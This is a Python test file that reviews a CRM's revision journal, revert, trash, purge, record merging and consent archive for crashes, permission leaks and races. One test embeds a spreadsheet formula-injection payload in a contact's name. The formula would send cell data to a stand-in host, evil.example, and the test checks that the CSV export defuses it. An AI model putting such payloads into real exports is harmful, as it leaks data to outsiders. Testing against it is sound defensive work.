"""Hostile review of the journal, revert, trash, purge, merging and the consent archive (shipped config).

Each xfail(strict=True) is a bug found by the review; the plain tests guard promises that held."""

from __future__ import annotations

import csv
import io
import random
from datetime import timedelta
from decimal import Decimal

import pytest
import sqlalchemy as sa

from kartoteka.errors import BadRequest, Conflict, NotFound, PermissionDenied, RecordValidationError
from kartoteka.records.merging import merge, undo_merge
from kartoteka.records.model import SYSTEM
from kartoteka.records.trash import purge
from kartoteka.records.versions import history, revert, values_at
from kartoteka.storage.tables import consents, journal, records

COMPANY = {"name": "Northwind Trading Ltd", "country": "gb"}


_PHONE = iter(range(1000, 10000))


def _person(**values):
    """A contact's values with a phone of its own (a contact needs a way to reach them)."""
    return {"phones": [f"+44 20 7946 {next(_PHONE)}"], **values}


def _svc(app):
    return app.extensions["kartoteka"].service


@pytest.fixture
def people(make_user):
    return {name: make_user(name, roles, department) for name, roles, department in
            (("rep", ["sales"], "sales"), ("other", ["sales"], "sales"), ("fin", ["finance"], "finance"),
             ("mgr", ["sales_manager"], "sales"), ("mkt", ["marketing"], "marketing"),
             ("sup", ["support"], "support"), ("boss", ["admin"], None))}


@pytest.fixture
def deal(app, people):
    service = _svc(app)
    company = service.create("company", COMPANY, SYSTEM)
    return service.create("deal", {"name": "Rollout", "company": company.id, "amount": "1000"}, people["rep"][0])


# --- crashes on odd input ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("query", ["before=%C2%B2", "limit=%C2%B2", "before=99999999999999999999999",
                                   "before=abc", "limit=0", "limit=201", "before=-1"])
def test_history_paging_with_odd_digits_is_a_400_not_a_500(client, people, deal, query):
    response = client.get(f"/api/v1/records/deal/{deal.id}/history?{query}", headers=people["rep"][1])
    assert response.status_code == 400, response.status_code


def test_trash_cursor_with_a_huge_id_is_a_400_not_a_500(client, people, deal):
    response = client.get("/api/v1/trash/deal?cursor=2026-01-01T00:00:00%7C99999999999999999999999",
                          headers=people["boss"][1])
    assert response.status_code == 400, response.status_code


@pytest.mark.parametrize("cursor", ["x" * 100_000, "2026-01-01T00:00:00|" + "9" * 5000, "%7C", "2026-13-01|1",
                                    "2026-01-01T00:00:00+05:00|1", "2026-01-01|-1", "2026-01-01|1|2", "\u0000"])
def test_odd_trash_cursors_are_answered_not_crashed(client, people, deal, cursor):
    response = client.get("/api/v1/trash/deal", query_string={"cursor": cursor}, headers=people["boss"][1])
    assert response.status_code in (200, 400), response.status_code


@pytest.mark.parametrize("path", ["/api/v1/records/deal/99999999999999999999999/history",
                                  "/api/v1/records/deal/99999999999999999999999/restore",
                                  "/api/v1/merges/99999999999999999999999/undo"])
def test_huge_ids_in_the_path_are_404_not_500(client, people, path):
    method = client.get if path.endswith("history") else client.post
    response = method(path, headers=people["boss"][1], json={})
    assert response.status_code in (400, 404), response.status_code


@pytest.mark.parametrize("body", [{"version": 10 ** 30}, {"version": -1}, {"version": "2"}, {"version": 1.0},
                                  {"version": None}, {"version": [1]}, {"version": 1, "fields": "amount"},
                                  {"version": 1, "fields": [None, 3, {"a": 1}]}, {"version": 1, "fields": ["é" * 500]},
                                  [], "x", {"version": True}])
def test_revert_with_odd_bodies_is_a_4xx(client, people, deal, body):
    response = client.post(f"/api/v1/records/deal/{deal.id}/revert", json=body, headers=people["rep"][1])
    assert 400 <= response.status_code < 500, (response.status_code, response.get_json())


@pytest.mark.parametrize("body", [{"survivor": 1, "others": "2"}, {"survivor": "1", "others": [2]},
                                  {"survivor": 1, "others": [10 ** 30]},
                                  {"survivor": 10 ** 30, "others": [1]},
                                  {"survivor": 1, "others": [2], "values": []}, {"survivor": 1, "others": [2],
                                                                                "values": {"nope": 1}},
                                  {}, [], {"survivor": 1, "others": [-5]}])
def test_merge_with_odd_bodies_is_a_4xx(client, people, deal, body):
    response = client.post("/api/v1/records/deal/merge", json=body, headers=people["boss"][1])
    assert 400 <= response.status_code < 500, (response.status_code, response.get_json())


# --- scope: history, trash, restore, merge --------------------------------------------------------------------

def test_history_of_a_trashed_record_outside_ones_delete_scope_is_not_found(service, people):
    """The trash is for who may delete the card within their scope: a sales manager (delete: department) does not
    see the trash of support's deals, so neither may they read the journal of one of them."""
    mgr, sup, boss = people["mgr"][0], people["sup"][0], people["boss"][0]
    company = service.create("company", COMPANY, SYSTEM)
    theirs = service.create("deal", {"name": "Support's", "company": company.id}, boss, owner=sup.id)
    service.delete("deal", theirs.id, boss)
    from kartoteka.records.trash import trash_page
    assert [t.id for t in trash_page(service, "deal", mgr).items] == []
    with pytest.raises((PermissionDenied, NotFound)):
        service.restore("deal", theirs.id, mgr)
    with pytest.raises(NotFound):
        history(service, "deal", theirs.id, mgr)


def test_merging_records_outside_ones_delete_scope_is_refused_and_changes_nothing(service, engine, people):
    mgr, sup, boss = people["mgr"][0], people["sup"][0], people["boss"][0]
    company = service.create("company", COMPANY, SYSTEM)
    mine = service.create("contact", _person(first_name="Ann", last_name="Lee", company=company.id), mgr)
    theirs = service.create("contact", _person(first_name="Anne", last_name="Lee"), boss, owner=sup.id)
    deal = service.create("deal", {"name": "D", "company": company.id, "contact": theirs.id}, boss)
    with pytest.raises(PermissionDenied):
        merge(service, "contact", mine.id, [theirs.id], {}, mgr)
    with pytest.raises(PermissionDenied):  # reps may not delete contacts at all: no merging either way
        merge(service, "contact", theirs.id, [mine.id], {}, people["rep"][0])
    assert service.get("deal", deal.id, SYSTEM)["contact"] == theirs.id
    assert service.get("contact", theirs.id, SYSTEM)["first_name"] == "Anne"


def test_only_the_merger_or_an_admin_undoes_a_merge(service, people):
    mgr = people["mgr"][0]
    a = service.create("contact", _person(first_name="Ann", last_name="Lee"), mgr)
    b = service.create("contact", _person(first_name="Anne", last_name="Lee"), mgr)
    done = merge(service, "contact", a.id, [b.id], {}, mgr)
    for who in ("rep", "fin", "mkt", "sup"):
        with pytest.raises(PermissionDenied):
            undo_merge(service, done.merge_id, people[who][0])
    undo_merge(service, done.merge_id, mgr)


# --- undo of a merge after things happened ----------------------------------------------------------------------

def test_undoing_a_merge_whose_survivor_was_deleted_since_reverts_it_or_says_so(service, people):
    boss = people["boss"][0]
    a = service.create("contact", _person(first_name="Ann", last_name="Lee", position="CFO"), boss)
    b = service.create("contact", _person(first_name="Anne", last_name="Lee", position="CEO"), boss)
    done = merge(service, "contact", a.id, [b.id], {"position": "CEO"}, boss)
    service.delete("contact", a.id, boss)
    with pytest.raises(Conflict) as refused:  # said, not claimed done: restore the survivor first
        undo_merge(service, done.merge_id, boss)
    assert refused.value.detail.code == "merge.survivor_gone"
    service.restore("contact", a.id, boss)
    undo_merge(service, done.merge_id, boss)
    assert service.get("contact", a.id, SYSTEM)["position"] == "CFO"


def test_undoing_a_merge_after_a_merged_record_was_purged_reverts_the_rest_or_says_why(service, people,
                                                                                        fixed_clock):
    boss = people["boss"][0]
    a = service.create("contact", _person(first_name="Ann", last_name="Lee", position="CFO"), boss)
    b = service.create("contact", _person(first_name="Anne", last_name="Lee"), boss)
    done = merge(service, "contact", a.id, [b.id], {"position": "CEO"}, boss)
    purge(service, fixed_clock.now(), timedelta(0), record_ids=[b.id])
    try:
        undo_merge(service, done.merge_id, boss)
    except (NotFound, Conflict) as exc:
        assert exc.detail.code.startswith("merge."), exc.detail.code
    else:
        assert service.get("contact", a.id, SYSTEM)["position"] == "CFO"


# --- consent ----------------------------------------------------------------------------------------------------

def test_a_merge_keeps_the_persons_own_consent_decision(service, people, fixed_clock):
    boss, mkt_boss = people["boss"][0], people["mgr"][0]
    a = service.create("contact", _person(first_name="Ann", last_name="Lee"), boss)
    b = service.create("contact", _person(first_name="Anne", last_name="Lee", pd_consent=True), mkt_boss)
    given = service.get("contact", b.id, SYSTEM)["pd_consent"]
    fixed_clock.advance(days=30)
    with pytest.raises(RecordValidationError) as refused:  # nobody decides for the person, not even a merge
        merge(service, "contact", a.id, [b.id], {"pd_consent": given}, boss)
    assert [m.code for m in refused.value.errors["pd_consent"]] == ["merge.consent_kept"]
    done = merge(service, "contact", a.id, [b.id], {}, boss)
    assert done.survivor["pd_consent"] is None  # its own; B's decision stays B's, in the archive


def test_undoing_a_merge_takes_back_the_consent_the_survivor_got_from_it(service, people):
    boss = people["boss"][0]
    a = service.create("contact", _person(first_name="Ann", last_name="Lee"), boss)
    b = service.create("contact", _person(first_name="Anne", last_name="Lee", pd_consent=True), boss)
    with pytest.raises(RecordValidationError):  # a merge gives no consent, so an undo has none to take back
        merge(service, "contact", a.id, [b.id], {"pd_consent": True}, boss)
    done = merge(service, "contact", a.id, [b.id], {}, boss)
    undo_merge(service, done.merge_id, boss)
    assert service.get("contact", a.id, SYSTEM)["pd_consent"] is None
    assert service.get("contact", b.id, SYSTEM)["pd_consent"]["given"] is True


def test_reverting_to_before_a_consent_does_not_claim_to_have_taken_it_back(service, people):
    boss = people["boss"][0]
    c = service.create("contact", _person(first_name="Ann", last_name="Lee"), boss)
    service.update("contact", c.id, {"pd_consent": True}, boss, expected_version=None)
    done = revert(service, "contact", c.id, 1, boss)
    now = service.get("contact", c.id, SYSTEM)["pd_consent"]
    assert ("pd_consent" in done.fields) == (now is None)


def test_reverting_one_consent_field_to_before_it_was_given_takes_it_back_or_refuses(service, people):
    boss = people["boss"][0]
    c = service.create("contact", _person(first_name="Ann", last_name="Lee"), boss)
    service.update("contact", c.id, {"pd_consent": True}, boss, expected_version=None)
    try:
        done = revert(service, "contact", c.id, 1, boss, fields=["pd_consent"])
    except (RecordValidationError, BadRequest):
        return  # refusing is honest too
    assert done.fields == () or service.get("contact", c.id, SYSTEM)["pd_consent"] is None


def test_going_back_to_an_older_version_never_gives_a_withdrawn_consent_again(service, engine, people):
    boss = people["boss"][0]
    c = service.create("contact", _person(first_name="Ann", last_name="Lee", position="CFO", pd_consent=True), boss)
    service.update("contact", c.id, {"pd_consent": False}, boss, expected_version=None)  # the person withdrew
    service.update("contact", c.id, {"position": "typo"}, boss, expected_version=None)
    revert(service, "contact", c.id, 1, boss)  # "undo the typo": back to version 1
    assert service.get("contact", c.id, SYSTEM)["pd_consent"]["given"] is False
    with engine.connect() as conn:
        assert [r.given for r in conn.execute(sa.select(consents).order_by(consents.c.id))] == [True, False]


def test_the_consent_export_does_not_hand_a_spreadsheet_formulas(service, engine, people):
    from kartoteka.records.consent import write_csv
    boss = people["boss"][0]
    service.create("contact", _person(first_name="=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", last_name="Lee",
                               pd_consent=True), boss)
    out = io.StringIO()
    write_csv(engine, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows and not rows[0]["subject"].startswith(("=", "+", "-", "@"))


def test_nothing_in_the_app_updates_or_deletes_a_young_consent_row(service, engine, people, fixed_clock):
    from kartoteka.records.consent import purge_expired
    boss = people["boss"][0]
    c = service.create("contact", _person(first_name="Ann", last_name="Lee", pd_consent=True), boss)
    service.delete("contact", c.id, boss)
    purge(service, fixed_clock.now(), timedelta(0), record_ids=[c.id])
    assert purge_expired(engine, fixed_clock.now(), 6) == 0
    with pytest.raises(ValueError):
        purge_expired(engine, fixed_clock.now(), 5)
    for statement in (sa.update(consents).values(given=False), sa.delete(consents)):
        with pytest.raises(sa.exc.DBAPIError), engine.begin() as conn:
            conn.execute(statement)
    with engine.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(consents)).scalar() == 1


# --- the journal matches what was stored ------------------------------------------------------------------------

def _snapshot(engine, record_id):
    with engine.connect() as conn:
        row = conn.execute(sa.select(records.c.data, records.c.owner, records.c.version)
                           .where(records.c.id == record_id)).one()
    return row.version, (dict(row.data or {}), row.owner)


@pytest.mark.parametrize("seed", range(6))
@pytest.mark.parametrize("with_rules", [False, True])
def test_values_at_rebuilds_every_version_under_random_saves(app, service, engine, people, fixed_clock, seed,
                                                             with_rules):
    """Random saves by different users (select/visible_if, multiselect, tags, user, reference, money, formula
    inputs, owner changes, delete/restore, whole and one-field reverts): every version rebuilt equals the stored one."""
    from kartoteka.records.journal import entries_query
    from kartoteka.records.journal import values_at as rebuild
    rnd = random.Random(seed)
    if with_rules:  # the app's service runs the shipped rules (won/lost set the probability, open tickets...)
        service = _svc(app)
    rep, other, fin, mgr, boss = (people[n][0] for n in ("rep", "other", "fin", "mgr", "boss"))
    companies = [service.create("company", COMPANY | {"name": f"C{i}"}, SYSTEM).id for i in range(3)]
    contacts = [service.create("contact", _person(first_name=f"P{i}", last_name="X"), SYSTEM).id for i in range(3)]
    card = service.create("deal", {"name": "Rollout", "company": companies[0], "amount": "1000"}, rep)
    snapshots = dict([_snapshot(engine, card.id)])
    choices = {
        "amount": lambda: rnd.choice([None, "1", "2500.50", "99999", "6000000"]),
        "probability": lambda: rnd.choice([None, 10, 55]),
        "stage": lambda: rnd.choice(["new", "proposal", "negotiation", "contract", "won", "lost"]),
        "lost_reason": lambda: rnd.choice([None, "price", "competitor"]),
        "products": lambda: rnd.choice([None, [], ["licenses"], ["support", "training"]]),
        "tags": lambda: rnd.choice([None, [], ["a"], ["a", "b"], ["b"]]),
        "company": lambda: rnd.choice(companies),
        "contact": lambda: rnd.choice([None, *contacts]),
        "description": lambda: rnd.choice([None, "", "ünïcødé ✓", "x" * 300]),
        "invoice_number": lambda: rnd.choice([None, "INV-1"]),
        "next_step": lambda: rnd.choice([None, "Call"]),
    }
    for _ in range(25):
        fixed_clock.advance(minutes=1)
        version = _snapshot(engine, card.id)[0]
        op = rnd.random()
        try:
            if op < 0.55:
                names = rnd.sample(sorted(choices), rnd.randint(1, 4))
                who = rnd.choice([rep, mgr, boss])
                values = {n: choices[n]() for n in names}
                if values.get("stage") == "won":  # what winning needs, so that the won rules run
                    values.update(won_date="2026-03-01", amount=values.get("amount") or "100")
                elif values.get("stage") == "lost":
                    values["lost_reason"] = "price"
                service.update("deal", card.id, values, who, expected_version=None)
            elif op < 0.65:
                service.update("deal", card.id, {"margin": rnd.choice([None, "12.5", "40"]),
                                                 "cost": rnd.choice([None, "10"])}, fin, expected_version=None)
            elif op < 0.75:
                service.update("deal", card.id, {}, boss, expected_version=None, owner=rnd.choice([rep, other]).id)
            elif op < 0.82:
                service.delete("deal", card.id, boss)
                snapshots.update([_snapshot(engine, card.id)])
                service.restore("deal", card.id, boss)
            elif op < 0.92:
                revert(service, "deal", card.id, rnd.randint(1, version), boss)
            else:
                revert(service, "deal", card.id, rnd.randint(1, version), boss, fields=[rnd.choice(sorted(choices))])
        except (RecordValidationError, PermissionDenied, NotFound):
            pass
        snapshots.update([_snapshot(engine, card.id)])
    last, current = _snapshot(engine, card.id)
    assert last >= 10 and sorted(snapshots) == list(range(1, last + 1))
    entity = service.entity("deal")
    for version, expected in snapshots.items():
        with engine.connect() as conn:
            later = conn.execute(entries_query(entity, card.id).where(journal.c.version > version)).all()
        assert rebuild(*current, later) == expected, version
        typed = values_at(service, "deal", card.id, version, boss)
        assert typed == {n: v for n, v in service.typed_values(entity, expected[0]).items() if n in entity.fields}


# --- merging records that refer to each other (a card referring to its own kind) -------------------------------

ORGS = {"org": {"entity": "org", "label": "Organisation", "title": "{name}",
                "fields": {"name": {"type": "text", "required": True},
                           "code": {"type": "text", "unique": True},
                           "parent": {"type": "reference", "to": "org"},
                           "partners": {"type": "reference", "to": "org", "multiple": True}}}}
ORG_ROLES = {"roles": {"admin": {"label": "Admin", "superuser": True}, "clerk": {"label": "Clerk"}},
             "permissions": {"admin": {"*": "all"}, "clerk": {"org": "own"}}}


@pytest.fixture
def orgs(tmp_path, engine, clock, make_user):
    from kartoteka.metadata.fieldtypes import ParseContext
    from kartoteka.metadata.loader import load_metadata
    from kartoteka.records.service import RecordService
    from kartoteka.storage.indexes import sync_indexes
    from tests.conftest import write_config

    metadata = load_metadata(write_config(tmp_path / "orgs", ORGS, ORG_ROLES), ParseContext())
    sync_indexes(engine, metadata)
    return RecordService(metadata, engine, clock, ParseContext()), make_user("root", ["admin"])[0]


def test_a_merge_where_the_survivor_refers_to_a_merged_record_can_be_undone(orgs):
    service, root = orgs
    a = service.create("org", {"name": "A"}, root)
    b = service.create("org", {"name": "B", "parent": a.id}, root)
    service.update("org", a.id, {"parent": b.id, "partners": [b.id]}, root, expected_version=None)
    done = merge(service, "org", a.id, [b.id], {}, root)
    survivor = service.get("org", a.id, root)
    assert survivor["parent"] in (None, a.id) and b.id not in (survivor["partners"] or [])
    undo_merge(service, done.merge_id, root)
    back = service.get("org", a.id, root)
    assert back["parent"] == b.id and back["partners"] == [b.id]
    assert service.get("org", b.id, root)["parent"] == a.id


def test_a_merge_of_three_with_cross_references_repoints_and_undoes(orgs):
    service, root = orgs
    a = service.create("org", {"name": "A", "code": "X1"}, root)
    b = service.create("org", {"name": "B"}, root)
    c = service.create("org", {"name": "C", "parent": b.id, "partners": [a.id, b.id]}, root)
    d = service.create("org", {"name": "D", "parent": c.id, "partners": [b.id, c.id]}, root)
    done = merge(service, "org", a.id, [b.id, c.id], {"code": None}, root)
    assert service.get("org", d.id, root)["parent"] == a.id
    assert service.get("org", d.id, root)["partners"] == [a.id]
    undo_merge(service, done.merge_id, root)
    assert service.get("org", d.id, root)["parent"] == c.id
    assert service.get("org", d.id, root)["partners"] == [b.id, c.id]
    assert service.get("org", c.id, root)["partners"] == [a.id, b.id]
    assert service.get("org", a.id, root)["code"] == "X1"


def test_a_restore_colliding_with_a_unique_value_is_refused_and_names_no_unreadable_record(orgs, make_user):
    service, root = orgs
    clerk = make_user("clerk", ["clerk"])[0]
    old = service.create("org", {"name": "Old", "code": "K-1"}, root, owner=clerk.id)
    service.delete("org", old.id, root)
    service.create("org", {"name": "Secret holder", "code": "K-1"}, root)
    with pytest.raises(RecordValidationError) as refused:
        service.restore("org", old.id, clerk)
    assert "Secret holder" not in str([str(m) for m in refused.value.errors["code"]])
    assert [m.code for m in refused.value.errors["code"]] == ["unique.hidden"]


# --- permissions of reverts and merges --------------------------------------------------------------------------

def test_a_revert_never_changes_a_field_the_user_may_not_change(service, people):
    rep, mgr, fin = people["rep"][0], people["mgr"][0], people["fin"][0]
    company = service.create("company", COMPANY, SYSTEM)
    card = service.create("deal", {"name": "D", "company": company.id, "amount": "100"}, rep)
    service.update("deal", card.id, {"responsible": mgr.id, "amount": "200"}, mgr, expected_version=None)
    service.update("deal", card.id, {"margin": "40"}, fin, expected_version=None)
    with pytest.raises((RecordValidationError, PermissionDenied)):
        revert(service, "deal", card.id, 1, rep, fields=["responsible"])
    with pytest.raises(RecordValidationError) as hidden:
        revert(service, "deal", card.id, 1, rep, fields=["margin"])
    assert [m.code for m in hidden.value.errors["fields"]] == ["journal.field_unknown"]
    whole = revert(service, "deal", card.id, 1, rep)
    assert whole.fields == ("amount",) and whole.kept == ("responsible",)  # margin: not even named
    stored = service.get("deal", card.id, SYSTEM)
    assert stored["responsible"] == mgr.id and stored["margin"] == Decimal("40")
    assert "margin" not in whole.record.values


def test_a_revert_response_and_errors_never_carry_a_hidden_old_value(client, people, deal):
    fin, rep = people["fin"], people["rep"]
    client.patch(f"/api/v1/records/deal/{deal.id}", json={"margin": "31.7"}, headers={**fin[1], "If-Match": '"1"'})
    client.patch(f"/api/v1/records/deal/{deal.id}", json={"margin": "77.7", "amount": "5"},
                 headers={**fin[1], "If-Match": '"2"'})
    for body in ({"version": 2}, {"version": 2, "fields": ["margin"]}, {"version": 1, "fields": ["margin_amount"]},
                 {"version": 2, "fields": ["amount", "margin"]}):
        response = client.post(f"/api/v1/records/deal/{deal.id}/revert", json=body, headers=rep[1])
        assert "31.7" not in response.get_data(as_text=True) and "margin" not in str(response.get_json().get(
            "record", {})), response.get_json()
    page = client.get(f"/api/v1/records/deal/{deal.id}/history", headers=rep[1]).get_data(as_text=True)
    assert "31.7" not in page and "77.7" not in page and "margin" not in page


def test_a_merge_cannot_set_a_field_the_merger_may_not_change(service, people):
    mgr = people["mgr"][0]
    company = service.create("company", COMPANY, SYSTEM)
    a = service.create("deal", {"name": "A", "company": company.id}, mgr)
    b = service.create("deal", {"name": "B", "company": company.id}, mgr)
    with pytest.raises(RecordValidationError):
        merge(service, "deal", a.id, [b.id], {"margin": "50"}, mgr)
    assert service.get("deal", b.id, SYSTEM)["name"] == "B"
    assert service.get("deal", a.id, SYSTEM)["margin"] is None


def test_the_cli_history_as_a_user_hides_what_they_may_not_view(runner, app, people, deal):
    service = _svc(app)
    service.update("deal", deal.id, {"margin": "31.7"}, people["fin"][0], expected_version=None)
    shown = runner.invoke("history", "deal", str(deal.id), "--as", "rep")
    assert shown.exit_code == 0 and "31.7" not in shown.output and "margin" not in shown.output
    assert "31.7" in runner.invoke("history", "deal", str(deal.id)).output
    other = runner.invoke("history", "deal", str(deal.id), "--as", "other")
    assert other.exit_code != 0 and "31.7" not in other.output


# --- purge -----------------------------------------------------------------------------------------------------

def test_a_purged_records_id_is_never_given_to_a_new_record(service, engine, people, fixed_clock, request):
    if engine.dialect.name == "sqlite":  # PostgreSQL's sequence never gives an id twice
        request.applymarker(pytest.mark.xfail(strict=True, reason=(
            "records.id has no AUTOINCREMENT on SQLite: after `purge` removes the newest record, the next record "
            "gets its id, and the consent archive (and merges) of the purged person now name the new person's "
            "record")))
    boss = people["boss"][0]
    gone = service.create("contact", _person(first_name="Gone", last_name="Person", pd_consent=True), boss)
    service.delete("contact", gone.id, boss)
    purge(service, fixed_clock.now(), timedelta(0), record_ids=[gone.id])
    new = service.create("contact", _person(first_name="New", last_name="Person"), boss)
    assert new.id != gone.id


# --- paging ------------------------------------------------------------------------------------------------------

def test_trash_paging_with_equal_deletion_times_neither_skips_nor_repeats(app, client, people, fixed_clock):
    service = _svc(app)
    boss = people["boss"][0]
    company = service.create("company", COMPANY, SYSTEM)
    ids = []
    for i in range(7):
        card = service.create("deal", {"name": f"D{i}", "company": company.id}, boss)
        service.delete("deal", card.id, boss)
        ids.append(card.id)
        if i % 3 == 2:
            fixed_clock.advance(microseconds=1)
    seen, url = [], "/api/v1/trash/deal?limit=2"
    while url:
        body = client.get(url, headers=people["boss"][1]).get_json()
        seen.extend(item["id"] for item in body["items"])
        url = body["next"]
    assert sorted(seen) == sorted(ids) and len(seen) == len(set(seen))


def test_history_paging_walks_every_entry_once(app, client, people, deal):
    service = _svc(app)
    for i in range(9):
        service.update("deal", deal.id, {"next_step": f"step {i}"}, people["rep"][0], expected_version=None)
    seen, url = [], f"/api/v1/records/deal/{deal.id}/history?limit=4"
    while url:
        body = client.get(url, headers=people["rep"][1]).get_json()
        seen.extend(e["version"] for e in body["entries"])
        url = body["next"]
    assert seen == list(range(10, 0, -1))


def test_a_merge_repoints_a_record_that_a_check_would_refuse_today(service, people, fixed_clock):
    """A deal whose close date has passed breaks the 'close date not in the past' check: repointing its contact
    must still work (the merge must not fail on a card the merger did not touch)."""
    boss, rep = people["boss"][0], people["rep"][0]
    company = service.create("company", COMPANY, SYSTEM)
    a = service.create("contact", _person(first_name="Ann", last_name="Lee"), boss)
    b = service.create("contact", _person(first_name="Anne", last_name="Lee"), boss)
    deal = service.create("deal", {"name": "D", "company": company.id, "contact": b.id, "close_date": "2026-03-05"},
                          SYSTEM, owner=rep.id)
    fixed_clock.advance(days=30)
    done = merge(service, "contact", a.id, [b.id], {}, boss)
    assert service.get("deal", deal.id, SYSTEM)["contact"] == a.id
    undo_merge(service, done.merge_id, boss)
    assert service.get("deal", deal.id, SYSTEM)["contact"] == b.id


def test_deleted_references_and_history_never_name_a_record_outside_ones_read_scope(app, client, people):
    from tests.test_web import sign_in, text_of
    service = _svc(app)
    rep, sup, boss = people["rep"][0], people["sup"][0], people["boss"][0]
    company = service.create("company", COMPANY, SYSTEM)
    hidden = service.create("contact", _person(first_name="Zinaida", last_name="Secretova"), boss, owner=sup.id)
    card = service.create("deal", {"name": "D", "company": company.id, "contact": hidden.id}, SYSTEM, owner=rep.id)
    service.update("deal", card.id, {"contact": None}, boss, expected_version=None)
    service.update("deal", card.id, {"contact": hidden.id}, SYSTEM, expected_version=None)
    service.delete("contact", hidden.id, boss)
    sign_in(client, rep)
    for url in (f"/cards/deal/{card.id}", f"/cards/deal/{card.id}/history", f"/cards/deal/{card.id}/edit"):
        response = client.get(url)
        assert response.status_code == 200 and "Secretova" not in text_of(response), url
    sign_in(client, people["mgr"][0])  # reads every contact: sees it is deleted
    assert "Secretova (deleted)" in text_of(client.get(f"/cards/deal/{card.id}"))


def test_the_merge_pages_refuse_who_may_not_merge_or_undo(app, client, people):
    from tests.test_web import CSRF, sign_in
    service = _svc(app)
    mgr, sup, rep, boss = people["mgr"][0], people["sup"][0], people["rep"][0], people["boss"][0]
    mine = service.create("contact", _person(first_name="Ann", last_name="Lee"), mgr)
    theirs = service.create("contact", _person(first_name="Anne", last_name="Lee"), boss, owner=sup.id)
    sign_in(client, rep)  # reps may not delete contacts: no merge screen
    assert client.get(f"/cards/contact/merge?ids={mine.id},{theirs.id}").status_code == 403
    sign_in(client, mgr)  # theirs lies outside the manager's delete scope: nothing is merged
    client.post("/cards/contact/merge", data={"csrf_token": CSRF, "ids": f"{mine.id},{theirs.id}",
                                              "survivor": str(mine.id)})
    assert service.get("contact", theirs.id, SYSTEM)["first_name"] == "Anne"
    done = merge(service, "contact", theirs.id, [mine.id], {}, boss)
    response = client.post(f"/cards/merges/{done.merge_id}/undo", data={"csrf_token": CSRF})
    assert response.status_code == 403
    with pytest.raises(NotFound):
        service.get("contact", mine.id, SYSTEM)


def test_undoing_an_import_takes_back_the_consent_it_ticked(service, people, tmp_path):
    from kartoteka.imports.runner import ImportOptions, run_import
    from kartoteka.imports.undo import undo_import
    boss = people["boss"][0]
    c = service.create("contact", _person(first_name="Ann", last_name="Lee", telegram="@annlee1"), boss)
    path = tmp_path / "consents.csv"
    path.write_text("telegram,pd_consent\n@annlee1,yes\n", encoding="utf-8")
    done = run_import(service, "contact", path, "consents.csv", boss,
                      ImportOptions(key="telegram", on_duplicate="update"))
    assert done.counts.updated == 1 and service.get("contact", c.id, SYSTEM)["pd_consent"]["given"] is True
    undone = undo_import(service, done.import_id, boss)
    # A consent stays as given (the archive keeps the decision the import recorded); the undo says so, by name.
    assert [k.reason.code for k in undone.kept] == ["import.undo_value_kept"]
    assert "Consent to personal data processing" in str(undone.kept[0].reason)


# --- races ------------------------------------------------------------------------------------------------------

def test_two_opposite_merges_at_once_end_in_one_merge_and_a_clear_refusal(service, engine, people, request):
    """A into B and B into A at the same moment (two users on the same duplicates screen)."""
    import threading

    from kartoteka.errors import KartotekaError
    boss = people["boss"][0]
    failures = []
    for _ in range(12):
        a = service.create("contact", _person(first_name="A", last_name="X"), boss)
        b = service.create("contact", _person(first_name="B", last_name="X"), boss)
        barrier = threading.Barrier(2)
        results = []

        def run(survivor, other, barrier=barrier, results=results):
            barrier.wait()
            try:
                merge(service, "contact", survivor, [other], {"position": f"by {survivor}"}, boss)
                results.append("merged")
            except KartotekaError as exc:
                results.append(type(exc).__name__)
            except Exception as exc:  # what the review looks for: a raw database error
                failures.append(repr(exc)[:200])
                results.append("crash")

        threads = [threading.Thread(target=run, args=pair) for pair in ((a.id, b.id), (b.id, a.id))]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert results.count("merged") == 1, results
        with engine.connect() as conn:
            live = conn.execute(sa.select(sa.func.count()).select_from(records).where(
                records.c.id.in_([a.id, b.id]), records.c.deleted_at.is_(None))).scalar()
        assert live == 1
    assert failures == []


def test_the_timeline_shows_journal_changes_cut_to_what_the_reader_may_view(app, client, people, deal):
    from tests.test_web import sign_in, text_of
    service = _svc(app)
    service.update("deal", deal.id, {"margin": "31.7", "cost": "123.45"}, people["fin"][0], expected_version=None)
    service.update("deal", deal.id, {"next_step": "Call them"}, people["rep"][0], expected_version=None)
    api = client.get(f"/api/v1/records/deal/{deal.id}/timeline", headers=people["rep"][1])
    assert api.status_code == 200
    body = api.get_data(as_text=True)
    assert "31.7" not in body and "margin" not in body and "123.45" not in body and "Call them" in body
    assert client.get(f"/api/v1/records/deal/{deal.id}/timeline", headers=people["other"][1]).status_code == 404
    sign_in(client, people["rep"][0])
    page = text_of(client.get(f"/cards/deal/{deal.id}"))
    assert "31.7" not in page and "123.45" not in page


def test_undoing_an_old_merge_does_not_bring_back_a_record_a_later_merge_took(service, people):
    boss = people["boss"][0]
    company = service.create("company", COMPANY, SYSTEM)
    a = service.create("contact", _person(first_name="Ann", last_name="Lee"), boss)
    b = service.create("contact", _person(first_name="Anne", last_name="Lee"), boss)
    c = service.create("contact", _person(first_name="A.", last_name="Lee"), boss)
    deal = service.create("deal", {"name": "D", "company": company.id, "contact": b.id}, boss)
    first = merge(service, "contact", a.id, [b.id], {}, boss)
    service.restore("contact", b.id, boss)  # "that was wrong" - by hand, not with Undo
    service.update("deal", deal.id, {"contact": b.id}, boss, expected_version=None)
    merge(service, "contact", c.id, [b.id], {}, boss)  # the right merge
    assert service.get("deal", deal.id, SYSTEM)["contact"] == c.id
    with pytest.raises(Conflict) as refused:  # B belongs to the later merge now: undo that first
        undo_merge(service, first.merge_id, boss)
    assert refused.value.detail.code == "merge.superseded"
    with pytest.raises(NotFound):
        service.get("contact", b.id, SYSTEM)
